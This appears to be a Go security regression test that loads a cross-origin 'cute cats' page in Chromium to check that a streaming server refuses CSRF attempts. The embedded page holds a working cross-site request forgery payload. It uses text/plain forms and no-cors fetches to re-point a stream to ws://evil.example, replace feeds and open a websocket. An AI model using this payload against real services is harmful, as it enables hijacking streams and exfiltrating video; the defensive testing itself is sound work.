package api

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"reflect"
	"sync"
	"testing"
	"time"

	"github.com/vwlab/vw/internal/browser"
	"github.com/vwlab/vw/internal/testutil"
	"github.com/vwlab/vw/rules"
	"github.com/vwlab/vw/rwc"
)

// attackPage is a web page on another origin that tries what issue 8 found
// open: re-point a destination with a "simple" cross-site POST (fetch with
// mode no-cors, and a text/plain form whose one field makes the body JSON),
// an untyped body, a form-urlencoded one, replacing a live feed through
// /ts/, and opening the preview websocket. It sets window.attackDone when
// every attempt has finished.
const attackPage = `<!doctype html>
<title>cute cats</title>
<iframe name="sink" id="sink"></iframe>
<form id="f" method="POST" action="%[1]s/api/destinations" enctype="text/plain" target="sink">
<input name='{"stream":"front","destination":"ws://evil.example/in/stolen","id":"0","pad":"' value='"}'>
</form>
<script>
const target = %[1]q;
const rule = JSON.stringify({stream: "front", destination: "ws://evil.example/in/stolen", id: "0"});
const tries = [
  fetch(target + "/api/destinations", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: rule}),
  fetch(target + "/api/destinations", {method: "POST", mode: "no-cors", body: new Blob([rule])}),
  fetch(target + "/api/streams", {method: "POST", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: JSON.stringify({stream: "front", feeds: ["evil"]})}),
  fetch(target + "/ts/video0", {method: "POST", mode: "no-cors", body: new Uint8Array(188 * 10).fill(0x47)}),
  new Promise(done => {
    const ws = new WebSocket(target.replace("http", "ws") + "/ws/front");
    ws.onerror = ws.onclose = done;
    ws.onopen = () => { window.previewOpened = true; ws.close(); };
  }),
  new Promise(done => {
    document.getElementById("sink").onload = done;
    document.getElementById("f").submit();
  }),
];
Promise.allSettled(tries).then(() => { window.attackDone = true; });
</script>`

// TestBrowserAttack opens that page in real Chromium, served by a second
// server (another origin), while vw stream holds rules: the rules are
// unchanged afterwards, the preview did not open, and vw stream did see
// (and refuse) every attempt.
func TestBrowserAttack(t *testing.T) {
	b := browser.Start(t)
	f := newFixture(t, Config{}, rules.Config{})
	var mu sync.Mutex
	seen := map[string]int{} // "METHOD path status" of requests from the page
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := &statusRecorder{ResponseWriter: w}
		f.srv.Handler().ServeHTTP(rec, r)
		if r.Header.Get("Origin") != "" || r.Header.Get("Sec-Fetch-Site") != "" {
			mu.Lock()
			seen[fmt.Sprintf("%s %s %d", r.Method, r.URL.Path, rec.status)]++
			mu.Unlock()
		}
	}))
	t.Cleanup(target.Close)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attackPage, target.URL)
	}))
	t.Cleanup(attacker.Close)

	f.setStream(t, "front", "video0")
	if _, err := f.rules.SetDestination(rwc.Rule{Stream: "front", Destination: "wss://relay.example/in/lab1", ID: "0", Token: "lab1-token"}, false); err != nil {
		t.Fatal(err)
	}
	before := f.rules.Snapshot()

	page := b.Open(attacker.URL)
	testutil.Eventually(t, 20*time.Second, func() bool {
		done, err := browser.Eval[bool](page, "window.attackDone === true")
		return err == nil && done
	}, "the attack page did not finish")
	if opened, _ := browser.Eval[bool](page, "window.previewOpened === true"); opened {
		t.Fatal("the page opened the preview websocket")
	}
	if after := f.rules.Snapshot(); !reflect.DeepEqual(after, before) {
		t.Fatalf("the page changed the rules:\n%+v\nwas\n%+v", after, before)
	}
	mu.Lock()
	defer mu.Unlock()
	t.Logf("requests from the page: %v", seen)
	for _, want := range []string{
		"POST /api/destinations 403", "POST /api/streams 403", "POST /ts/video0 403", "GET /ws/front 403",
	} {
		if seen[want] == 0 {
			t.Errorf("vw stream never refused %q: the attack did not reach it", want)
		}
	}
	if seen["POST /api/destinations 403"] < 3 {
		t.Errorf("%d of the three destination POSTs refused", seen["POST /api/destinations 403"])
	}
	for k := range seen {
		if k[len(k)-3] == '2' {
			t.Errorf("a request from the page succeeded: %s", k)
		}
	}
}

// statusRecorder remembers the status a handler answered with.
type statusRecorder struct {
	http.ResponseWriter
	status int
}

func (r *statusRecorder) WriteHeader(code int) {
	r.status = code
	r.ResponseWriter.WriteHeader(code)
}

// Unwrap lets http.ResponseController (ingest) and the websocket upgrader
// reach the connection.
func (r *statusRecorder) Unwrap() http.ResponseWriter { return r.ResponseWriter }

func (r *statusRecorder) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	r.status = http.StatusSwitchingProtocols
	return http.NewResponseController(r.ResponseWriter).Hijack()
}
